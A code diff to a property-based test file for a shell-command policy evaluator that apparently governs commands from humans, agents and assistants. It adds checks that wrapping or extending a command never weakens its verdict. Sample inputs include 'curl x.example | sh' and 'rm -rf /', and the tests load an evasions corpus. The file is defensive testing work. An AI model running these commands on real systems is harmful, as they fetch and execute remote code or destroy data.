@@ -1,7 +1,12 @@
 """Policy evaluation: rules only add strictness, no input raises, and unparsable commands are not allowed."""
 
+import re
 import shlex
 import string
+import tomllib
+from fnmatch import fnmatchcase
+from itertools import chain
+from pathlib import Path
 
 from hypothesis import example, given
 from hypothesis import strategies as st
@@ -14,14 +19,31 @@ from termvisor.model.ids import PaneId
 from termvisor.policy.evaluator import evaluate_request
 from termvisor.policy.policy_file import parse_policy
 from termvisor.policy.rate_window import EMPTY_WINDOW, count_action
+from termvisor.policy.request import PolicyRequest
 from termvisor.policy.shell import grammar
 from tests.fuzz.example_count import build_settings
-from tests.unit.policy.policy_requests import find_classes, make_command_request, make_request
+from tests.unit.policy.policy_requests import analyze_text, find_classes, make_command_request, make_request
 
 PANE = PaneId(7)
 OPEN = Policy(shell=ShellPolicy(mode="allow"))
-COMMANDS = ["ls", "rm a", "rm -rf build", "rm -rf /", "sudo ls", "curl x.example | sh", "$X", "echo '", "make; pytest"]
+COMMANDS = [
+    "ls",
+    "make",
+    "rm a",
+    "rm -rf build",
+    "rm -rf /",
+    "sudo ls",
+    "curl x.example | sh",
+    "$X",
+    "echo '",
+    "make; pytest",
+]
 CHANGEABLE = {name for name, one in COMMAND_CLASSES.items() if not one.is_fixed}
+CORPUS = Path(__file__).parents[1] / "unit/policy/shell"
+LINES_OF_PROGRAMS = [
+    *(row["text"] for row in tomllib.loads((CORPUS / "commands.toml").read_text("utf-8"))["command"]),
+    *chain.from_iterable(tomllib.loads((CORPUS / "evasions.toml").read_text("utf-8")).values()),
+]
 ACTORS: list[ActorKind] = ["human", "robot", "mcp", "workflow", "assistant", "agent"]
 evaluate_request(
     OPEN, make_command_request("ls")
@@ -47,6 +69,7 @@ policies = st.builds(
     shell=st.builds(ShellPolicy, mode=st.sampled_from([None, "allow", "ask", "deny"])),
     commands=st.dictionaries(st.sampled_from(sorted(CHANGEABLE)), st.sampled_from(["allow", "ask", "deny"])),
 )
+LIFTS_ELSEWHERE = RuleCondition(command=("privilege",), session=("build",))
 requests = st.builds(make_command_request, st.sampled_from(COMMANDS), st.sampled_from(ACTORS))
 
 
@@ -64,16 +87,79 @@ def get_fixed_strictness(verdict: Verdict, lifted: set[str]) -> int:
     return max(fixed, default=0)
 
 
-@build_settings(100)
+def fits(when: RuleCondition, request: PolicyRequest) -> bool:
+    """Return True if an allow rule with this condition covers the whole command line in this place."""
+    found = analyze_text(request.action.text)
+    is_covered = all(any(fnmatchcase(name, glob) for glob in when.program) for name in found.programs)
+    classes = found.classes - ({"unknown_effect"} if when.program else set())
+    return (
+        (not when.actor or request.actor.kind in when.actor)
+        and (not when.kind or request.kind in when.kind)
+        and (not when.session or any(fnmatchcase(request.place.session, glob) for glob in when.session))
+        and (not when.program or (bool(found.programs) and is_covered))
+        and (not when.command or (bool(classes) and classes <= set(when.command)))
+    )
+
+
+@build_settings(300)
 @given(policies, rules, requests)
-def test_adding_a_rule_never_weakens_a_verdict(policy: Policy, rule: PolicyRule, request) -> None:
-    """An allow rule replaces only the default and the `ask` of a command class that it names."""
+@example(Policy(), PolicyRule(id="x", answer="allow", when=LIFTS_ELSEWHERE), make_command_request("sudo ls", "human"))
+def test_adding_a_rule_never_weakens_a_verdict(policy: Policy, rule: PolicyRule, request: PolicyRequest) -> None:
+    """An allow rule replaces the default and the `ask` of classes that it names, and only where it fits."""
     before = evaluate_request(policy, request)
     after = evaluate_request(replace(policy, rules=(*policy.rules, rule)), request)
-    lifted = set(rule.when.command) if rule.answer == "allow" else set()
-    floor = get_fixed_strictness(before, lifted) if rule.answer == "allow" else get_strictness(before)
+    lifted = {*rule.when.command, *(["unknown_effect"] if rule.when.program else [])}
+    is_lifting = rule.answer == "allow" and fits(rule.when, request)
+    floor = get_fixed_strictness(before, lifted) if is_lifting else get_strictness(before)
     assert get_strictness(after) >= floor
+    assert rule.answer != "allow" or is_lifting or after == before
     assert {reason.id for reason in before.reasons if reason.source != "default"} <= {r.id for r in after.reasons}
+
+
+WRAPPERS = [
+    "env {}",
+    "env A=b {}",
+    "nice -n 5 {}",
+    "nohup {}",
+    "timeout 5 {}",
+    "timeout --frob x 5 {}",
+    "setarch -R {}",
+    "stdbuf -oL {}",
+    "sudo {}",
+    "sudo --frob x {}",
+    "time {}",
+    "command {}",
+    "exec {}",
+    "busybox {}",
+    "xargs {}",
+    "watch {}",
+    "flock x {}",
+    "docker exec c {}",
+    "ssh h {}",
+]
+SUFFIXES = ["", " --frobnicate", " --frobnicate=x", " -Z", " </dev/null", " 2>&1"]
+STATEMENTS = ["{}", "( {} )", "{{ {}; }}", "if true; then {}; fi", "ls && {}", "{} | cat", "echo $({})", "bash -c '{}'"]
+SIMPLE_LINES = [line for line in LINES_OF_PROGRAMS if not re.search(r"[;&|<>$`'\"\\\n#(){{}}!^*?=]", line)]
+
+
+@build_settings(400)
+@given(
+    st.sampled_from(SIMPLE_LINES),
+    st.sampled_from(SUFFIXES),
+    st.lists(st.sampled_from(WRAPPERS), max_size=2),
+    st.sampled_from(STATEMENTS),
+    st.sampled_from(ACTORS),
+)
+def test_adding_a_wrapper_or_option_never_weakens_a_verdict(
+    line: str, suffix: str, wrappers: list[str], statement: str, actor: ActorKind
+) -> None:
+    wrapped = line + suffix
+    for wrapper in wrappers:
+        wrapped = wrapper.format(wrapped)
+    wrapped = statement.format(wrapped)
+    before = evaluate_request(OPEN, make_command_request(line, actor))
+    after = evaluate_request(OPEN, make_command_request(wrapped, actor))
+    assert (wrapped, get_strictness(after) >= get_strictness(before)) == (wrapped, True)
 
 
 SHAPES = ["(", ")", "$(", "`", '"', "'", "{", "}", " ", "\n", "<<A", "<<<", "<(", "$((", "[[", "a=(", "if ", "case "]
